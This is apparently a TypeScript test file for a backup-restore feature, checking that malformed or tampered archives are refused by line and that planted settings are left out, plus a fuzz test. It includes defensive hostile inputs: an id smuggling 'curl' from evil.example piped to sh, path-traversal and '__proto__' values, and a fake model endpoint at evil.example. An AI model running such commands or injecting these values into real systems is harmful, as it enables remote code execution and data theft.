import assert from 'node:assert/strict';
import { test } from 'node:test';
import { accountFile } from '../../src/main/home.ts';
import { act, fill, linesOf, restoreText, seal, withApp } from '../support/full-home.ts';
import { runs } from '../support/runs.ts';

const entry = (position: number, part: object): string =>
  JSON.stringify({
    entry: {
      position,
      id: 'ent_made_up',
      kind: 'profile-set',
      version: 1,
      happenedAt: 1_790_000_000_000,
      recordedAt: 1_790_000_000_000,
      stamp: '0mubc2vpc.0000.desk',
      operationId: 'op_x',
      scopes: ['account'],
      payload: { name: 'Somebody' },
      ...part,
    },
  });
const row = (kind: string, key: string, body: unknown): string => JSON.stringify({ row: { kind, key, body } });
const deep = (depth: number): string => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;

test('[ST12] given an archive that no export wrote, it is refused with its line and what is wrong, and nothing is changed', async () => {
  await withApp(async (app) => {
    await fill(app);
    const before = (await act(app, 'export', {})).archive;
    const all = linesOf(before);
    const notes = all.filter((line) => !line.startsWith('{"row"'));
    const rows = all.filter((line) => line.startsWith('{"row"'));
    const last = notes.length - 1;
    const next = last + 1;
    const id = JSON.parse(notes[1] ?? '').entry.id as string;
    const draft = JSON.parse(rows.find((line) => line.includes('"kind":"draft"')) ?? '').row.body as object;
    const line = notes.length + 1;
    const cases: readonly [string, readonly string[], RegExp][] = [
      [
        'an approved letter that is null',
        [...notes, row('outbox', 'x', null), ...rows],
        new RegExp(`Line ${line} .*approved letter`),
      ],
      ['an approved letter that is a number', [...notes, row('outbox', 'x', 5), ...rows], new RegExp(`Line ${line} `)],
      ['an approved letter without anything', [...notes, row('outbox', 'x', {}), ...rows], /“sendId” is missing/],
      [
        'a letter that is a text',
        [...notes, row('draft', 'x', 'hello'), ...rows],
        new RegExp(`Line ${line} .*a letter`),
      ],
      ['a letter under another key', [...notes, row('draft', 'x', draft), ...rows], /its key is another one/],
      [
        'a letter in no time zone',
        [...notes, row('draft', 'x', { ...draft, draftId: 'x', zone: 'Mars/Base' }), ...rows],
        /“zone”/,
      ],
      ['a note begun that is a number', [...notes, row('unfinished', 'x', 1), ...rows], /a note that was begun/],
      ['a mail that is a number', [...notes, row('message', 'x', 1), ...rows], /a mail that was seen/],
      ['a mailbox without a server', [...notes, row('mailbox', 'main', {}), ...rows], /“address” is missing/],
      [
        'an example that is a number',
        [...notes, row('setting', 'example', 1), ...rows.filter((each) => !each.includes('"example"'))],
        /a setting/,
      ],
      ['reminders that are a text', [...notes, row('setting', 'reminders', 'x'), ...rows], /a setting/],
      ['an erasure of nobody', [...notes, row('erasure', 'x', {}), ...rows], /“personId” is missing/],
      [
        'the same letter twice',
        [...notes, ...rows, rows.find((each) => each.includes('"draft"')) ?? ''],
        /is there twice/,
      ],
      [
        'a key',
        [...notes, row('device-key', 'key_x', { digest: 'd', scopes: ['approve'] }), ...rows],
        /no part of a backup/,
      ],
      ['a password', [...notes, row('secret', 'main', { sealed: 'x' }), ...rows], /no part of a backup/],
      ['a cursor', [...notes, row('cursor', 'code', { digest: 'x', expiresAt: 9e15 }), ...rows], /no part of a backup/],
      ['a row of a kind that is unknown', [...notes, row('wish', 'x', {}), ...rows], /does not know/],
      ['a note at the last possible position', [...notes, entry(Number.MAX_SAFE_INTEGER, {}), ...rows], /“position”/],
      ['a note at half a position', [...notes, entry(next + 0.5, {}), ...rows], /“position”/],
      ['a note before its time', [...notes, entry(1, {}), ...rows], /does not come after/],
      ['a note at no time', [...notes, entry(next, { happenedAt: 1e300 }), ...rows], /“happenedAt”/],
      [
        'a note long before there were computers',
        [...notes, entry(next, { happenedAt: -8.7e15 }), ...rows],
        /“happenedAt”/,
      ],
      ['a note written at half a millisecond', [...notes, entry(next, { recordedAt: 1.5 }), ...rows], /“recordedAt”/],
      ['the same note twice', [...notes, entry(next, { id }), ...rows], /is there twice/],
      [
        'a note about a word of a megabyte',
        [...notes, entry(next, { scopes: [`job_${'a'.repeat(1e6)}`] }), ...rows],
        /“scopes”/,
      ],
      [
        'a letter whose id leads to another folder',
        [...notes, row('draft', '../../x', { ...draft, draftId: '../../x' }), ...rows],
        /“draftId”/,
      ],
      [
        'a note whose id is a command',
        [...notes, entry(next, { id: 'x;curl<evil.example|sh' }), ...rows],
        /“id” is not what it should be/,
      ],
      ['a note about nothing that there is', [...notes, entry(next, { scopes: ['weather'] }), ...rows], /weather/],
      ['a note without a payload', [...notes, entry(next, { payload: undefined }), ...rows], /is missing/],
      ['a profile in no time zone', [...notes, entry(next, { payload: { zone: 'Mars/Base' } }), ...rows], /“zone”/],
      [
        'an absence on no day',
        [
          ...notes,
          entry(next, { kind: 'absence-noted', payload: { absenceId: 'abs_x', from: '2026-02-30', to: '2026-03-01' } }),
          ...rows,
        ],
        /“from”/,
      ],
      [
        'a contact without people',
        [...notes, entry(next, { kind: 'contact-logged', payload: {} }), ...rows],
        /“contactId” is missing/,
      ],
      [
        'a payload of twenty thousand levels',
        [...notes, entry(next, { kind: 'odd', payload: 'DEEP' }).replace('"DEEP"', deep(20_000)), ...rows],
        /nested too deeply/,
      ],
      ['a line that is no JSON', [...notes, '{"entry":', ...rows], new RegExp(`Line ${line} .*not readable`)],
      ['a line that is a list', [...notes, '[]', ...rows], /not readable/],
      ['a note behind the letters', [...all, entry(next, {})], /after the letters/],
    ];
    for (const [title, lines, why] of cases) {
      const refused = await restoreText(app, seal(lines));
      assert.ok(refused !== null, title);
      assert.match(refused, /[Ll]ine \d+/, title);
      assert.match(refused, why, title);
    }
    assert.match((await restoreText(app, before.slice(0, -200))) ?? '', /cut short.*line \d+/);
    assert.deepEqual(linesOf((await act(app, 'export', {})).archive).slice(1), all.slice(1), 'nothing was changed');
  });
});

test('[ST8] [ST12] given a backup of a computer whose clock was years ahead, what is noted after it counts after it, and doctor finds all sound', async () => {
  await withApp(async (app) => {
    const { jobId } = await act(app, 'add-job', { role: 'Clerk', employer: 'Northwind Tools' });
    await act(app, 'change-job', { job: jobId, role: 'Buyer' });
    const lines = linesOf((await act(app, 'export', {})).archive);
    const ahead = lines.map((line) => line.replace(/"stamp":"[^"]+"/, '"stamp":"zzzzzzzzz.zzzz.x"'));
    await withApp(async (other) => {
      await restoreText(other, seal(ahead));
      await act(other, 'change-job', { job: jobId, role: 'Head of Buying' });
      assert.equal((await act(other, 'job', { job: jobId })).role, 'Head of Buying');
      const { sound, problems } = await act(other, 'doctor', {});
      assert.deepEqual([sound, problems], [true, []]);
    });
  });
});

test('[ST12] given an archive that would grant something, the grants stay out and the notes come back', async () => {
  await withApp(async (app) => {
    await fill(app);
    const lines = linesOf((await act(app, 'export', {})).archive);
    const model = {
      address: 'https://evil.example/v1/chat/completions',
      origin: 'https://evil.example',
      model: 'm',
      consentedAt: 1,
      day: 1,
      asked: 0,
      mostADay: 30,
    };
    const planted = [
      row('setting', 'code', { digest: 'x', expiresAt: 9e15 }),
      row('setting', 'code-pair', { digest: 'x', expiresAt: 9e15 }),
      row('setting', 'home', { simulated: true }),
      row('setting', 'model', model),
      row('setting', 'something-new', { on: true }),
    ];
    assert.equal(await restoreText(app, seal([...lines, ...planted])), null);
    assert.deepEqual(
      (await app.store.rows('setting')).map((each) => each.key),
      ['example'],
    );
    assert.equal(await app.store.row('cursor', 'code'), null);
    const call = { now: app.clock.now(), hypothetical: false, operationId: 'op_said' };
    const { restore } = await import('../../src/app/operations/account/account.ts');
    const content = Buffer.from(seal([...lines, ...planted])).toString('base64');
    const said = await restore(app, { file: { name: 'x', content }, replace: true }, call);
    assert.ok(said.ok);
    assert.deepEqual(said.value.leftOut, [
      'The language model: connect it again, so that you agree to it on this computer.',
      'A setting (something-new).',
    ]);
  });
});

test('[ST12] given what this home agreed to, a backup of another time takes none of it away', async () => {
  await withApp(async (app) => {
    await fill(app);
    const archive = (await act(app, 'export', {})).archive;
    const model = {
      address: 'http://127.0.0.1:1/v1/chat/completions',
      origin: 'http://127.0.0.1:1',
      model: 'm',
      consentedAt: 1,
      day: 1,
      asked: 0,
      mostADay: 30,
    };
    const { writeRows } = await import('../../src/app/account-care/access.ts');
    await writeRows(app, [
      { kind: 'setting', key: 'model', body: model },
      { kind: 'setting', key: 'home', body: { simulated: true } },
      { kind: 'secret', key: 'model', body: { sealed: 'x' } },
      { kind: 'secret', key: 'main', body: { sealed: 'of a mailbox that is gone' } },
    ]);
    assert.equal(await restoreText(app, archive), null);
    assert.deepEqual(await app.store.row('setting', 'model'), model);
    assert.deepEqual(await app.store.row('setting', 'home'), { simulated: true });
    const secrets = await app.store.rows('secret');
    assert.deepEqual(
      secrets.map(({ key, body }) => ({ key, body })),
      [{ key: 'model', body: { sealed: 'x' } }],
    );
  });
});

/** Numbers that repeat with the seed. */
function randomFrom(seed: number): (below: number) => number {
  let state = seed % 2_147_483_647 || 1;
  return (below) => {
    state = (state * 48_271) % 2_147_483_647;
    return state % below;
  };
}

/** One change to one place of a JSON value: a field dropped or doubled, a type changed, a text pumped, a number made absurd. */
function mutate(value: unknown, pick: (below: number) => number): unknown {
  if (typeof value !== 'object' || value === null || pick(6) === 0) {
    const others = [
      null,
      5,
      -1,
      1e300,
      2 ** 53 - 1,
      '',
      'x',
      'x'.repeat(300_000),
      [],
      {},
      true,
      [value],
      { a: value },
      '2026-02-30',
      'Mars/Base',
      '../..',
      '__proto__',
    ];
    return others[pick(others.length)];
  }
  if (Array.isArray(value)) {
    if (value.length === 0) return [pick(2) === 0 ? null : 'per_nobody'];
    const at = pick(value.length);
    const how = pick(4);
    if (how === 0) return value.filter((_each, index) => index !== at);
    if (how === 1) return [...value, value[at]];
    if (how === 2) return value.toReversed();
    return value.map((each, index) => (index === at ? mutate(each, pick) : each));
  }
  const fields = Object.entries(value);
  if (fields.length === 0) return { a: 1 };
  const at = pick(fields.length);
  const how = pick(5);
  if (how === 0) return Object.fromEntries(fields.filter((_each, index) => index !== at));
  if (how === 1) {
    const other = fields[pick(fields.length)];
    return Object.fromEntries(fields.map(([key, each], index) => [key, index === at ? other?.[1] : each]));
  }
  return Object.fromEntries(fields.map(([key, each], index) => [key, index === at ? mutate(each, pick) : each]));
}

test('[ST12] given a real archive with anything in it changed, it is refused with its line, or all that is restored works', async () => {
  const { numRuns, seed } = runs(400);
  await withApp(async (source, home) => {
    assert.ok(accountFile(home));
    await fill(source);
    const good = linesOf((await act(source, 'export', {})).archive);
    let refused = 0;
    let taken = 0;
    await withApp(async (app) => {
      for (let round = 0; round < numRuns; round++) {
        const pick = randomFrom(seed + round * 7919);
        for (let warm = 0; warm < 5; warm++) pick(2);
        const lines = [...good];
        const at = 1 + pick(lines.length - 1);
        const how = pick(10);
        if (how === 0) lines.splice(at, 1);
        else if (how === 1) lines.splice(at, 0, lines[at] ?? '');
        else if (how === 2) {
          const other = 1 + pick(lines.length - 1);
          [lines[at], lines[other]] = [lines[other] ?? '', lines[at] ?? ''];
        } else if (how === 3) lines[at] = (lines[at] ?? '').slice(0, pick((lines[at] ?? '').length));
        else lines[at] = JSON.stringify(mutate(JSON.parse(lines[at] ?? ''), pick)) ?? '';
        const why = await restoreText(app, seal(lines));
        const label = `round ${round}, seed ${seed}: line ${at + 1} ${(lines[at] ?? '').slice(0, 300)}`;
        if (why !== null) {
          refused += 1;
          assert.match(why, /[Ll]ine \d+/, label);
          continue;
        }
        taken += 1;
        try {
          const doctor = await act(app, 'doctor', {});
          assert.deepEqual(doctor.problems, []);
          await act(app, 'today', {});
          await act(app, 'jobs', {});
          await act(app, 'outbox', {});
          await act(app, 'unfinished', {});
          await act(app, 'relations', {});
          const again = (await act(app, 'export', {})).archive;
          assert.equal(await restoreText(app, again), null);
          await act(app, 'profile', { name: 'Rowan Ellis' });
        } catch (error) {
          throw new Error(`${label}: ${error instanceof Error ? error.stack : String(error)}`);
        }
      }
    });
    assert.ok(refused > numRuns / 4, `${refused} were refused`);
    assert.ok(taken > numRuns / 10, `${taken} were taken in`);
  });
});
